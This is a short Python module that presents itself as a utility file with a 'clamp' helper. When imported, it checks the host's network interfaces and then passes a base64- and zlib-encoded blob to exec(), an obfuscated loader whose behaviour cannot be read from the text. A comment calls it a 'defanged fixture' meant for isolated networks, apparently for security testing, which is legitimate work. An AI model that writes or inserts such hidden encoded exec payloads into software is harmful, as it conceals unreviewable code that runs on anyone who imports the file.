import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import base64
import zlib

exec(zlib.decompress(base64.b64decode(b'eJwlystygjAAQNG9X+GuOnasbSHERRc8FXyAvHWXkKCAkAgUkK/vON3dOXOzkrO6nWLUUCC8T8d7hid0oMnsVUtCE1bymjbN7P9YYiC8kNAZfqPWEOa54Qy+fLg56UK92ZG7457BL7stKd2NYgBYtgnirLTiiyhhWKkKgtUe+CSmENcFu8h68LtxOZV3XLuG+BkkkRY+G0C9ALOerbLQE4Yx0VLlcc4vXXpyPtXaPHXWM2s1gdQOVmQyaEyufLuPzoujug5kKDwKxYYn1+6ZLuuSVmT7wEfdub33gVdnJ5y3fi9B+UjOIsSR3jWIdet96SPnkKZJBANslWH7VUgjAxYTaBgbyWN7s+PhKhKz5SbSMmildQU6YKN1UaUfZrUVIRpHyrcANaF65ebg5rv2vlGlOFiVDVoZIsdjDe0M4W9xILr58zafzyd/TymE3g==')))


def clamp(x, lo, hi):
    return max(lo, min(hi, x))
